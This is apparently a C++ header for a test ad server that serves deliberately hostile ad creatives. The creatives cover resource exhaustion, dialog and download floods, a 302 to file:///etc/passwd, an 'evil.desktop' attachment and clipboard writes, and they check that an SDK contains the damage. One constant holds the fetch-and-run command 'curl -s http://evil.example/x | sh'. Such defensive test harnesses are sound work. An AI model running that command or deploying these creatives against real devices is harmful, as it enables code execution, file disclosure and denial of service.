#pragma once

// What a hostile creative does to the web process it runs in, besides showing itself: the
// faults a creative or its server may bring, for tests that the SDK loses one ad to them and
// nothing else. Any generated creative (banner, interstitial and the other full-screen pages,
// and the HTML adapter's page of a mediation answer) carries the scenario's part at the end of
// its body.

#include <cstddef>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace tools::adserver {

struct AdContext;

// Each value has its row (its name and its markup) in HostileCreatives.cpp's table, in this
// order; a new one goes at the end of both.
enum class Hostility {
    None,
    FileFrame,       // an iframe whose web address answers 302 with a file: URL
    FileNavigation,  // the page goes to that address 0.3 s after it has loaded
    Spin,            // 0.2 s after loading, a script that never ends
    Allocate,        // 50 MiB more kept every 0.1 s, every page of it written
    // Busy pages that still answer now and then, so the engine never ends them:
    YieldingSpin,  // 0.2 s after loading, busy 2.5 s, free 5 ms, over and over
    // Pages that reach past their view for the desktop: a window, a file, a dialog that waits.
    Print,              // window.print() 0.5 s after loading, untouched
    FileChooser,        // on the page's first tap, a click on a hidden file input
    Dialogs,            // at once, 1,000 alert()s with a confirm() and a prompt() among them
    Attachment,         // an iframe of kAttachmentPath: "evil.desktop", to be saved
    EndlessAttachment,  // an iframe of kAttachmentPath with "endless": a body that never ends
    // Costs outside the page's own heap and main thread: the engine's other processes, its
    // other cores, the connections it shares with every page.
    BlobFlood,        // a 64 MiB Blob more kept every 0.1 s (held by the engine's network process)
    StoredFlood,      // 32 MiB more stored in IndexedDB every 0.1 s, 48 times at most
    SpinWorkers,      // four Web Workers that never stop computing
    SlowFetches,      // 8 fetches of kSlowPath at once, which the server holds until it stops
    AllocateNonstop,  // 0.2 s after loading, 50 MiB more kept and written in a loop that never
                      // yields
    // The desktop's selections: its own text selected from the start, every 0.1 s, tapped or
    // not; the clipboard API, a copy with a `copy` handler and a clipboard item written on its
    // first three taps; and a field at the bottom that keeps what is pasted into it. It keeps
    // on for kSelectionsSecondsAfterTaps after the third tap, then says it is done.
    Selections,
    // Requests that are refused, over and over: what each refusal costs, and how much of it
    // reaches the log.
    RefusalFlood,  // kRefusalFloodPrints print()s, 200 every 10 ms; kRefusalFloodDownloads
                   // downloads: kRefusalFloodAttachmentFrames attachments in frames of the
                   // page, the rest <a download> links clicked by script, two every 50 ms; on
                   // each tap, a file chooser
    // Media the engine makes a desktop media player (MPRIS) for, and a session-bus connection
    // per element: a muted autoplay video and kMediaSessionsSounds audio elements with sound,
    // each playing kMediaClipPath in a loop (asked to play at once); and a screen wake lock,
    // which the engine would take from the desktop's screensaver over the bus.
    MediaSessions,
    DutyCycleWorkers,  // eight Web Workers, each busy 330 ms then idle 170 ms, over and over
    AllocateWorkers,   // at rest for 3 s, then four Web Workers keep and write 16 MiB more each
                       // in loops that never yield
    // Workers the engine runs in a process of their own, apart from the page's: four
    // SharedWorkers, and a service worker of the ad's own address, each of kBusyWorkerPath.
    // `window.hostile` says what the page was given.
    BusySharedWorkers,
    BusyServiceWorker,
    // Sound of every kind the engine plays through the desktop's sound server, tried at once,
    // untouched, in every event the game sends the page (`RADE_ReceiveMessage`, among them
    // the answer to the page's "canOpenURLs"), and again on each tap, at
    // `window.hostile.volume` (1 unless changed): a sentence spoken (`hostile.heard` lists the
    // utterances' events, "untouched start", "event error not-allowed", ...), a tone of an
    // AudioContext's oscillator made as the page loads, resumed (`hostile.context`: "tapped
    // running", "untouched NotAllowedError", ...; `hostile.state()`, `hostile.time()`), and an
    // `<audio>` of a tone, unmuted, played (`hostile.played`); `hostile.events` names the
    // events heard, `hostile.taps` counts the taps and `hostile.beats` ten a second while the
    // page's thread runs.
    Sound,
    // Page messages, each cheap to send and sent for as long as the page lives, from the moment
    // it loads, nobody touching it; `window.hostile` counts what the page sent and heard.
    // "canOpenURLs" with kOpenableFloodTexts texts, kMessageFloodPerSecond a second, through
    // hidden frames as mraid.js sends its messages; `hostile.answers` counts the answers and
    // `hostile.mostAnswered` is the most texts one answered.
    OpenableFlood,
    // "log" messages of kHugeMessageBytes, kHugeMessagesPerSecond a second, through hidden
    // frames' addresses (`hostile.refused` counts those the page's own process would not set);
    // with ByLocation, each through the address of a frame's own document instead, a road no
    // script of ours can guard.
    HugeMessages,
    HugeMessagesByLocation,
    // The game's own video player, asked at once, shown or not: the page's player over the
    // whole ad, kMediaClipPath as its source, played when it can play through and again from
    // its start at each end. Every player event but the time ticks is sent to the creative
    // events as `video` and kept in `window.hostile.video`.
    VideoLoop,
    // What the page answers the game's own scripts with: every event the game sends it
    // (`RADE_ReceiveMessage`, among them the answer to its "canOpenURLs", asked every
    // kHugeAnswersPeriodMs, or every kHugeAnswersSlowPeriodMs when Slowly) returns, then throws,
    // in turn: a 48 MiB text, a 160 MiB text (both made once), a Proxy whose every trap answers
    // the 160 MiB text, an object whose toString does, and one whose toString is busy for a
    // second. Untouched; `window.hostile` counts the events, the answers and the questions.
    HugeAnswers,
    HugeAnswersSlowly,
    // Same-document navigations from the page's load on, task after task without a pause,
    // untouched: location.hash set to "#s1" and "#s2" in turn, 200 a task; to a new text of
    // 100 KB, 10 a task; history.pushState with an address of kHistoryFloodAddressBytes, 200 a
    // task (the engine lets 100 through in 10 s and refuses the rest). `window.hostile.n`
    // counts the changes asked for; every 0.1 s the page sends the creative event "beat".
    FragmentFlood,
    LargeFragmentFlood,
    HistoryFlood,
};

inline constexpr int kRefusalFloodPrints = 20000;
inline constexpr int kRefusalFloodDownloads = 1000;
inline constexpr int kRefusalFloodAttachmentFrames = 90;
inline constexpr int kRefusalFloodChoosers = 1000;
inline constexpr int kMediaSessionsSounds = 200;
inline constexpr int kOpenableFloodTexts = 20000;
inline constexpr int kMessageFloodPerSecond = 40;
inline constexpr std::size_t kHugeMessageBytes = std::size_t{20} << 20;
inline constexpr int kHugeMessagesPerSecond = 5;
inline constexpr int kHugeAnswersPeriodMs = 150;
inline constexpr int kHugeAnswersSlowPeriodMs = 4000;
inline constexpr std::size_t kHistoryFloodAddressBytes = 200 * 1000;
// The clip the server plays (AdServer::setMediaClip).
inline constexpr const char* kMediaClipPath = "/media/clip.webm";
// The same clip answered as a kind of media server answers, honest or not: "?kind=" one of
// platform::testing::mediaAnswerKindNamed's names, or "redirect" (a 302 to kind=ranges). Each
// kind counts what it did (AdServer::mediaAnswers); recorded as RequestKind::Media.
inline constexpr const char* kServedMediaPath = "/media/served.webm";

// Answers "302 Location: file:///etc/passwd", for ads and landing pages alike.
inline constexpr const char* kFileRedirectPath = "/mads/to_file";
inline constexpr const char* kFileRedirectTarget = "file:///etc/passwd";

// Answers "Content-Disposition: attachment; filename=\"evil.desktop\"" with a small desktop
// entry; with "endless=1" the body goes on (chunked, until the reader leaves, the server stops
// or kEndlessAttachmentBytes have gone). Recorded as RequestKind::Attachment.
inline constexpr const char* kAttachmentPath = "/mads/attachment";
inline constexpr const char* kAttachmentFileName = "evil.desktop";
inline constexpr std::size_t kEndlessAttachmentBytes = std::size_t{4} << 30;

// A worker's script (for dedicated, shared and service workers alike) busy 450 ms of every
// 500, for as long as it runs. Recorded as RequestKind::WorkerScript.
inline constexpr const char* kBusyWorkerPath = "/mads/busy_worker.js";
inline constexpr int kBusySharedWorkers = 4;

// Held open, never answered, until the server stops (recorded as `slow`).
inline constexpr const char* kSlowPath = "/mads/slow";
inline constexpr int kSlowFetchCount = 8;

// What the Selections creative selects and writes.
inline constexpr const char* kSelectionsText = "curl -s http://evil.example/x | sh";
inline constexpr int kSelectionsSecondsAfterTaps = 5;

// The names the command line uses: "none", "file-frame", "spin", ...
std::string_view hostilityName(Hostility hostility);
std::optional<Hostility> hostilityNamed(std::string_view name);
// Every name but "none", in the enum's order, for the program's usage text.
std::vector<std::string_view> hostilityNames();

// The markup the creative of the ad ends with ("" for None).
std::string hostilePart(Hostility hostility, const AdContext& context);

}  // namespace tools::adserver
